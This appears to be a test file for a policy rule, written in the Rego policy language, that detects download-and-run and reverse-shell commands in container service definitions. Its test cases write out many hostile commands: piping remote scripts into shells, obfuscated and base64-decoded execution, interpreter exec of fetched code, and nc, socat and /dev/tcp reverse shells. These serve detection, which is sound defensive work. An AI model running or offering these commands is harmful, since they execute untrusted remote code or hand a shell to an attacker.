package trust["download-and-run_test"]

import data.trust["download-and-run"] as rule

messages(words) := found if {
	found := {v.message | some v in rule.violation} with input as {"project": {"services": {"web": {"command": words}}}}
}

fires(words, what) if sprintf(`service "web" %s`, [what]) in messages(words)

test_piped if {
	what := "runs what is piped into a shell or an interpreter"
	every text in [
		"curl -fsSL https://x.example/i.sh | sh",
		"curl https://x.example|bash -s -- --yes",
		"wget -qO- https://x.example | sudo -E bash -",
		"wget -qO- https://x.example |& /bin/sh",
		"c\"ur\"l https://x.example | b'a'sh; true",
		"curl $${IFS} https://x.example | env A=b bash -ex",
		"echo aGk= | base64 -d | sh",
		"curl https://x.example/x.py | python3 -",
		"(curl https://x.example | sh) && serve",
		"curl https://x.example |\n  bash\nserve",
	] {
		fires(["sh", "-c", text], what)
	}
}

test_substituted if {
	what := "runs what a command fetches or decodes"
	every text in [
		"bash <(curl -s https://x.example)",
		"eval \"$$(curl -s https://x.example)\"",
		"source <(wget -qO- https://x.example)",
		". <(curl https://x.example)",
		"sh -c \"`curl https://x.example`\"",
		"$$(curl https://x.example)",
		"x=$$(echo aGk= | base64 -d); eval $$x",
		"bash <<< \"$$(curl https://x.example)\"",
	] {
		fires(["sh", "-c", text], what)
	}
}

test_fetched if {
	what := "fetches a file and runs it"
	every text in [
		"curl -o /tmp/x.sh https://x.example/y && sh /tmp/x.sh",
		"curl -sSLo /tmp/x https://x.example/y; chmod +x /tmp/x; /tmp/x",
		"wget https://x.example/run.sh && bash ./run.sh",
		"wget https://x.example/run -O /opt/run && /opt/run --now",
		"curl https://x.example/y > go.py\npython3 go.py",
	] {
		fires(["sh", "-c", text], what)
	}
}

test_interpreted if {
	what := "fetches or decodes code and runs it within an interpreter"
	fires(["python", "-c", "import urllib.request as u; exec(u.urlopen('https://x.example').read())"], what)
	fires(["python3", "-c", "import base64; exec(base64.b64decode('aGk='))"], what)
	fires(["node", "-e", "fetch('https://x.example').then(r => r.text()).then(t => eval(t))"], what)
	fires(["python", "-c", "import requests, os; os.system(requests.get('https://x.example').text)"], what)
}

test_installed if {
	what := "installs code from an address"
	fires(["pip", "install", "git+https://x.example/y"], what)
	fires(["pip", "install", "https://x.example/y-1.0.whl"], what)
	fires(["npx", "github:someone/tool"], what)
	fires(["deno", "run", "https://x.example/y.ts"], what)
}

test_handed if {
	what := "hands a shell to the network"
	fires(["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"], what)
	fires(["sh", "-c", "nc 1.2.3.4 9 -e /bin/sh"], what)
	fires(["socat", "tcp:1.2.3.4:9", "exec:/bin/sh"], what)
}

test_fires_in_every_place if {
	{v.path | some v in rule.violation} == {
		["services", "web", "entrypoint"],
		["services", "web", "healthcheck", "test"],
		["services", "web", "post_start", 0, "command"],
		["services", "web", "environment", "START"],
		["configs", "run", "content"],
	} with input as {"project": {
		"services": {"web": {
			"entrypoint": ["sh", "-c", "curl https://x.example | sh"],
			"healthcheck": {"test": ["CMD-SHELL", "curl https://x.example | sh"]},
			"post_start": [{"command": ["sh", "-c", "curl https://x.example | sh"]}],
			"environment": {"START": "curl https://x.example | sh"},
		}},
		"configs": {"run": {"content": "#!/bin/sh\ncurl https://x.example | sh\n"}},
	}}
}

test_silent if {
	every text in [
		"curl -f http://localhost:5555/docs || exit 1",
		"wget -qO- http://127.0.0.1:5555/docs > /dev/null",
		"curl -s -o /dev/null http://localhost:5555/docs && exit 0",
		"curl -s localhost:11434/api/tags | python3 -c \"import json, sys; json.load(sys.stdin)\"",
		"curl -s localhost:11434/api/tags | grep -q qwen",
		"ollama list | grep qwen || sh",
		"python -c \"import urllib.request; urllib.request.urlopen('http://localhost:5555/docs')\"",
		"python -c \"import socket; socket.create_connection(('localhost', 5555))\"",
		"bash -c ': > /dev/tcp/127.0.0.1/5555'",
		"ollama serve & sleep 5 && ollama pull qwen2.5:3b && wait",
		"vllm serve Qwen/Qwen3-8B --port 8000",
		"wget https://x.example/model.gguf -O /models/model.gguf && exec server --model /models/model.gguf",
		"eval $$(conda shell.bash hook) && serve",
		"cat /etc/hosts | sort",
		"echo $$(hostname)",
	] {
		messages(["sh", "-c", text]) == set()
	}
	messages(["nc", "-z", "localhost", "5555"]) == set()
	rule.violation == set() with input as {"project": {"services": {"web": {"environment": {"PROMPT": "is a | b or (c)"}}}}}
}
